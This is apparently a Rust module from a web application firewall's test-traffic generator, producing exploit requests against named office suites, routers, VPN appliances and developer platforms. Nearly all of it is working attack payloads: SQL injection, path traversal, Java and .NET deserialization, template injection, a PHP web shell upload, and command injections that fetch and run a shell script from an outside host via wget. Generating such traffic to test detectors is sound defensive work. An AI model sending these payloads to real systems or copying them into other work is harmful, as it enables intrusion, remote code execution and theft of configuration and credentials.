//! Exploits of products by their paths: offices, devices, platforms. Probes that fit any product are in [`super::probes`].

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, request};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;
use super::super::wire::{FORM, JSON, Part, Wire, multipart};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("holes-of-offices", AttackClass::Scanner, 30, offices),
    request("holes-of-devices", AttackClass::Scanner, 30, devices),
    request("holes-of-platforms", AttackClass::Scanner, 34, platforms),
];

/// What scanners and hand-made exploits call themselves.
pub(super) fn by_scanner(rng: &mut Rng, wire: Wire) -> Vec<u8> {
    match rng.below(4) {
        0 => wire.program(rng.pick(&["python-requests/2.31.0", "Go-http-client/1.1", "curl/8.4.0"])).finish(rng),
        1 => wire
            .header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2656.18 Safari/537.36")
            .header("Connection", "close")
            .header("Accept-Encoding", "gzip")
            .finish(rng),
        2 => wire
            .header("User-Agent", "Mozilla/5.0 (X11; Linux i686; rv:1.9.7.20) Gecko/5531-03-24 20:12:27 Firefox/3.8")
            .header("Accept", "*/*")
            .finish(rng),
        _ => wire.desktop(rng).finish(rng),
    }
}

pub(super) fn in_path(rng: &mut Rng, wire: Wire) -> (Vec<u8>, Place, Encoding) {
    (by_scanner(rng, wire), Place::Path, Encoding::Plain)
}

/// Office automation, ERP, personnel and archive systems of Chinese offices.
fn offices(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(6);
    let number = rng.below(9000);
    let wire = match rng.below(24) {
        0 => Wire::get(format!("/seeyon/thirdpartyController.do.css/..;/ajax.do?r={number}")),
        1 => Wire::post(
            "/seeyon/htmlofficeservlet",
            "",
            format!(
                "DBSTEP V3.0     355             0               666             DBSTEP=OKMLlKlV\r\nOPTION=S3WYOSWLBSGr\r\ncurrentUserId=zUCTwigsziCAPLesw4gsw4oEwV66\r\nFILENAME={}\r\n",
                rng.token(40)
            ),
        ),
        2 => Wire::post(
            "/weaver/bsh.servlet.BshServlet",
            FORM,
            format!("bsh.script=print%28{number}*7%29%3B&bsh.servlet.output=raw"),
        ),
        3 => Wire::get(format!(
            "/weaver/weaver.file.SignatureDownLoad?markId={number}%20union%20select%20%27../ecology/WEB-INF/prop/weaver.properties%27"
        )),
        4 => Wire::post("/E-mobile/App/System/File/downfile.php", FORM, format!("url={}", codec::form("C:/boot.ini"))),
        5 => Wire::get(
            "/api/ec/dev/locale/getLabelByModule?moduleCode=%27)%20union%20all%20select%20%271,%27%2b(user)%20%20order%20by%201%20--%20",
        ),
        6 => Wire::post(
            "/mobile/plugin/browser.jsp",
            FORM,
            format!(
                "isDis=1&browserTypeId=269&keyword={}",
                codec::percent(codec::percent("a' union select 1,''+(SELECT @@VERSION)+'"))
            ),
        ),
        7 => Wire::get(format!("/servlet/~ic/bsh.servlet.BshServlet?x={word}")),
        8 => Wire::post(
            "/servlet/~uap/nc.search.file.parser.FileParserServlet",
            "application/octet-stream",
            [b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap".as_slice(), &rng.bytes(40)].concat(),
        ),
        9 => Wire::get(format!("/yyoa/ext/https/getSessionList.jsp?cmd=getAll&x={number}")),
        10 => Wire::get(format!("/yyoa/common/js/menu/test.jsp?doType=101&S1={}", codec::percent("(SELECT md5(12))"))),
        11 => Wire::get(format!("/general/../general/login_code.php?login_codeuid={word}")),
        12 => Wire::post(
            format!(
                "/general/appbuilder/web/report/repdetail/edit?link_type=false&slot={{}}&id={number}%29%20AND%20SLEEP%283%29--%20"
            ),
            FORM,
            "",
        ),
        13 => {
            let (kind, body) = multipart(
                &[
                    Part::field("P", "123"),
                    Part::field("DEST_UID", "1"),
                    Part::field("UPLOAD_MODE", "2"),
                    Part::file(
                        "ATTACHMENT",
                        "jpg",
                        "image/jpeg",
                        format!(
                            "<?php $c=new COM('WScript.shell');echo $c->exec('cmd /c {word}')->StdOut()->ReadAll();?>"
                        ),
                    ),
                ],
                rng,
            );
            Wire::post("/ispirit/im/upload.php", &kind, body)
        }
        14 => Wire::post(
            "/ispirit/interface/gateway.php",
            FORM,
            "json=%7B%22url%22%3A%22%2Fgeneral%2F..%2F..%2Fattach%2Fim%2F2003%2F1.jpg%22%7D",
        ),
        15 => Wire::post(
            "/sys/ui/extend/varkind/custom.jsp",
            FORM,
            format!("var={}", codec::form("{\"body\":{\"file\":\"/WEB-INF/KmssConfig/admin.properties\"}}")),
        ),
        16 => Wire::post(
            "/data/sys-common/treexml.tmpl",
            FORM,
            format!(
                "s_bean=ruleFormulaValidate&script={}",
                codec::form(format!(
                    "try {{String x = Runtime.getRuntime().exec(\"ping {word}\");}} catch (Exception e) {{}}"
                ))
            ),
        ),
        17 => Wire::get("/tplus/SM/DTS/DownloadProxy.aspx?preload=1&Path=../../Web.Config"),
        18 => Wire::post(
            "/tplus/ajaxpro/Ufida.T.CodeBehind._PriorityLevel,App_Code.ashx?method=GetStoreWarehouseByStore",
            JSON,
            format!(
                "{{\"storeID\":{{\"__type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0\",\"MethodName\":\"Start\",\"ObjectInstance\":{{\"__type\":\"System.Diagnostics.Process, System\",\"StartInfo\":{{\"FileName\":\"cmd\",\"Arguments\":\"/c ping {word}\"}}}}}}}}"
            ),
        ),
        19 => Wire::get(format!("/defaultroot/officeserverservlet?x={number}")),
        20 => Wire::get(format!("/Proxy?x={word}&url={}", codec::percent("file:///c:/windows/win.ini"))),
        21 => Wire::post(
            "/kdgs/core/upload/upload.jsp?extnames=jsp&autoup=0&dir=../../",
            "",
            format!("<%out.println({number}*3);%>"),
        ),
        22 => Wire::post(
            "/Kingdee.BOS.ServiceFacade.ServicesStub.DevReportService.GetBusinessObjectData.common.kdsvc",
            JSON,
            format!("{{\"ap0\":\"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0s{}\",\"format\":\"3\"}}", rng.token(80)),
        ),
        _ => Wire::post(
            "/jmreport/queryFieldBySql",
            JSON,
            format!(
                "{{\"sql\":\"select '<#assign ex=\\\"freemarker.template.utility.Execute\\\"?new()>${{ex(\\\"id {word}\\\")}}'\"}}"
            ),
        ),
    };
    in_path(rng, wire)
}

/// Routers, cameras, recorders, gateways and storage boxes.
fn devices(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let host = format!("{}.{}.{}.{}", rng.between(1, 220), rng.below(250), rng.below(250), rng.between(1, 250));
    let fetch = format!("cd /tmp; wget http://{host}/{word}.sh; sh {word}.sh");
    let wire = match rng.below(24) {
        0 => Wire::new("PUT", "/SDK/webLanguage").body(
            "application/xml; charset=UTF-8",
            format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/{word})</language>"),
        ),
        1 => Wire::get(format!("/System/configurationFile?auth=YWRtaW46MTEK&n={word}")),
        2 => Wire::get(format!("/current_config/Sha1Account1?{word}")),
        3 => Wire::post(
            "/cgi-bin/luci/;stok=/locale?form=country",
            FORM,
            format!("operation=write&country=$({})", codec::form(&fetch)),
        ),
        4 => Wire::get(format!("/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;{word};%27")),
        5 => Wire::get(format!(
            "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system={}",
            codec::base64(format!("id {word}"))
        )),
        6 => Wire::post(
            "/HNAP1/",
            "text/xml",
            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
        )
        .header("SOAPAction", format!("\"http://purenetworks.com/HNAP1/`{fetch}`\"")),
        7 => Wire::post(
            "/boaform/admin/formPing",
            FORM,
            format!("target_addr=%3B{}&waninf=1_INTERNET_R_VID_154", codec::form(&fetch)),
        ),
        8 => Wire::post(
            "/ztp/cgi-bin/handler",
            JSON,
            format!(
                "{{\"command\":\"setWanPortSt\",\"proto\":\"dhcp\",\"port\":\"4\",\"vlan_tagged\":\"1\",\"vlanid\":\"5\",\"mtu\":\"; {fetch};\",\"data\":\"hi\"}}"
            ),
        ),
        9 => Wire::post(
            "/login.php",
            FORM,
            format!("username=admin&password={}&flag=0", codec::form(format!("admin?show+webmaster+user+{word}"))),
        )
        .header("X-Requested-With", "XMLHttpRequest"),
        10 => Wire::post(
            "/guest_auth/guestIsUp.php",
            FORM,
            format!("ip={}&mac=00-00", codec::form(format!("127.0.0.1|echo '<?php echo 1;' > {word}.php"))),
        ),
        11 => Wire::get("/+CSCOE+/session_password.html").header("Cookie", format!("webvpn={word}")),
        12 => {
            Wire::post("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", FORM, format!("fileName=/etc/{word}"))
        }
        13 => {
            Wire::post("/mgmt/tm/util/bash", JSON, format!("{{\"command\":\"run\",\"utilCmdArgs\":\"-c '{word}'\"}}"))
                .header("X-F5-Auth-Token", "a")
                .header("Connection", "keep-alive, x-F5-Auth-Token")
                .header("Authorization", "Basic YWRtaW46")
        }
        14 => Wire::get("/vpn/../vpns/cfg/smb.conf")
            .header("NSC_USER", format!("../../../netscaler/portal/templates/{word}")),
        15 => Wire::get(format!("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession&n={word}")),
        16 => Wire::get("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/hosts?/dana/html5acc/guacamole/"),
        17 => {
            Wire::get(format!("/api/v1/totp/user-backup-code/../../license/keys-status/%3b{}", codec::percent(&fetch)))
        }
        18 => Wire::post("/goform/setMacFilterCfg", FORM, format!("macFilterType=black&deviceList={}", rng.token(120))),
        19 => Wire::get(format!("/cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type='%0a{word}%0a'")),
        20 => Wire::get(format!("/webman/info.cgi?host=&n={word}")),
        21 => Wire::get(format!("/language/Swedish${{IFS}}&&{}&&tar${{IFS}}/string.js", fetch.replace(' ', "${IFS}"))),
        22 => Wire::post(
            "/itbox_pi/vpn_quickset_service.php?a=set_vpn",
            FORM,
            format!("mode=ping&ip={}", codec::form(format!("1;{fetch}"))),
        ),
        _ => Wire::get(format!("/shell?{}", codec::percent_keeping(fetch.as_bytes(), b";/:.+"))),
    };
    in_path(rng, wire)
}

/// Platforms that developers and operators run: registries, consoles, queues, builds, knowledge bases, mail.
fn platforms(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(6);
    let number = rng.between(100, 9000);
    let wire = match rng.below(34) {
        0 => Wire::get("/nacos/v1/auth/users?pageNo=1&pageSize=9&search=accurate&accessToken=")
            .header("User-Agent", "Nacos-Server")
            .header("X-Trace", &word),
        1 => Wire::post(format!("/nacos/v1/auth/users?username={word}&password={word}"), FORM, "")
            .header("serverIdentity", "security"),
        2 => Wire::get(format!(
            "/nacos/v1/cs/ops/derby?sql={}",
            codec::percent(format!("select * from users where {number}={number}"))
        )),
        3 => Wire::get(format!(
            "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value={}",
            codec::percent(format!("public class x {{public x(){{\"id {word}\".execute()}}}}"))
        )),
        4 => Wire::post(
            "/cli?remoting=false",
            "",
            [
                b"\x00\x00\x00\x06\x00\x00\x04help".as_slice(),
                format!("\x00\x00\x00\x0e\x00\x00\x0c@/etc/{word}").as_bytes(),
            ]
            .concat(),
        )
        .header("Session", rng.uuid())
        .header("Side", "upload"),
        5 => Wire::get(format!(
            "/solr/{word}/select?q=1&wt=velocity&v.template=custom&v.template.custom={}",
            codec::percent("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime'))$rt")
        )),
        6 => Wire::post(
            format!("/solr/{word}/config"),
            JSON,
            "{\"update-queryresponsewriter\":{\"startup\":\"lazy\",\"name\":\"velocity\",\"class\":\"solr.VelocityResponseWriter\",\"template.base.dir\":\"\",\"solr.resource.loader.enabled\":\"true\",\"params.resource.loader.enabled\":\"true\"}}",
        ),
        7 => Wire::get(format!("/solr/{word}/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd")),
        8 => Wire::post(
            "/druid/indexer/v1/sampler",
            JSON,
            format!(
                "{{\"type\":\"index\",\"spec\":{{\"ioConfig\":{{\"firehose\":{{\"type\":\"local\",\"baseDir\":\"/etc\",\"filter\":\"{word}\"}}}}}}}}"
            ),
        ),
        9 => Wire::post("/minio/bootstrap/v1/verify", FORM, word.clone()),
        10 => Wire::get(format!("/v2/{word}/..%2f..%2fcatalog/_catalog?n=99")),
        11 => Wire::post(
            "/api/v2.0/users",
            JSON,
            format!(
                "{{\"username\":\"{word}\",\"email\":\"{word}@a.example\",\"realname\":\"{word}\",\"password\":\"Aa1{word}\",\"comment\":\"1\",\"has_admin_role\":true}}"
            ),
        ),
        12 => Wire::post(
            "/pages/doenterpagevariables.action",
            FORM,
            format!("queryString=aaaa\\u0027%2b%7b{number}*7%7d%2b\\u0027bbb"),
        ),
        13 => Wire::get(format!("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22{word}%22%29%7D/")),
        14 => Wire::post(
            "/rest/tinymce/1/macro/preview",
            JSON,
            format!(
                "{{\"contentId\":\"{number}\",\"macro\":{{\"name\":\"widget\",\"body\":\"\",\"params\":{{\"url\":\"https://www.viddler.com/v/{word}\",\"width\":\"1000\",\"height\":\"1000\",\"_template\":\"../web.xml\"}}}}}}"
            ),
        ),
        15 => Wire::get("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
        16 => Wire::post(
            "/setup/setupadministrator.action",
            FORM,
            format!(
                "username={word}&fullName=a&email=a%40b.example&password={word}&confirm={word}&setup-next-button=Next"
            ),
        )
        .header("X-Atlassian-Token", "no-check"),
        17 => Wire::get(
            "/autodiscover/autodiscover.json?@a.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@a.example",
        ),
        18 => Wire::post(format!("/ecp/{word}.js"), "text/xml", "<a/>")
            .header("Cookie", format!("X-BEResource=localhost~1942062522; x={word}")),
        19 => Wire::get(format!(
            "/eam/vib?id={}",
            codec::percent("C:\\ProgramData\\VMware\\vCenterServer\\cfg\\vmware-vpx\\vcdb.properties")
        )),
        20 => {
            let (kind, body) = multipart(
                &[Part::file(
                    "uploadFile",
                    "a.tar",
                    "application/octet-stream",
                    format!("../../usr/lib/vmware-vsphere-ui/server/work/{word}.jsp"),
                )],
                rng,
            );
            Wire::post("/ui/vropspluginui/rest/services/uploadova", &kind, body)
        }
        21 => Wire::post(
            "/analytics/telemetry/ph/api/hyper/send?_c&_i=/../../../../etc/cron.d/a",
            JSON,
            format!("* * * * * root id {word}"),
        ),
        22 => Wire::get(format!(
            "/catalog-portal/ui/oauth/verify?error=&deviceUdid={}",
            codec::percent(format!("${{\"freemarker.template.utility.Execute\"?new()(\"cat /etc/{word}\")}}"))
        )),
        23 => Wire::post(
            "/users/sign_in",
            FORM,
            format!("user[login]={word}&user[password]=x&user[email][]=a@b.example&user[email][]={word}@c.example"),
        )
        .header("X-Forwarded-Host", format!("{word}.example"))
        .header("X-Original-URL", "/users/password"),
        24 => Wire::get(format!(
            "/zabbix/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),{number})"
        )),
        25 => Wire::get("/zabbix/setup.php").header(
            "Cookie",
            format!(
                "zbx_session={}",
                codec::base64(format!("{{\"sessionid\":\"{word}\",\"serverCheckResult\":true,\"step\":6}}"))
            ),
        ),
        26 => Wire::get("/zabbix/index_sso.php").header(
            "Cookie",
            format!(
                "zbx_session={}",
                codec::percent(codec::base64(format!(
                    "{{\"saml_data\":{{\"username_attribute\":\"Admin\"}},\"sessionid\":\"{word}\",\"sign\":\"x\"}}"
                )))
            ),
        ),
        27 => Wire::get("/public/plugins/alertlist/../../../../../../../../etc/passwd").header("Accept", &word),
        28 => Wire::post(
            "/xxl-job-admin/api/registry",
            "application/octet-stream",
            [b"c\x02\x00mt\x00\x1dcom.sun.rowset.JdbcRowSetImplS".as_slice(), word.as_bytes()].concat(),
        ),
        29 => Wire::post(
            "/run",
            JSON,
            format!(
                "{{\"jobId\":{number},\"executorHandler\":\"demoJobHandler\",\"glueType\":\"GLUE_SHELL\",\"glueSource\":\"ping {word}.example\",\"glueUpdatetime\":1586699003758}}"
            ),
        ),
        30 => {
            Wire::post("/jars/upload", "application/java-archive", [b"PK\x03\x04".as_slice(), &rng.bytes(60)].concat())
        }
        31 => Wire::get(format!("/jobmanager/logs/..%252f..%252f..%252f..%252fetc%252f{word}")),
        32 => Wire::post("/ws/v1/cluster/apps/new-application", JSON, format!("{{\"x\":\"{word}\"}}")),
        _ => Wire::post(
            "/geoserver/wfs",
            "application/xml",
            format!(
                "<wfs:GetPropertyValue service='WFS' version='2.0.0' xmlns:wfs='http://www.opengis.net/wfs/2.0'><wfs:Query typeNames='sf:archsites'/><wfs:valueReference>exec(java.lang.Runtime.getRuntime(),'touch /tmp/{word}')</wfs:valueReference></wfs:GetPropertyValue>"
            ),
        ),
    };
    in_path(rng, wire)
}
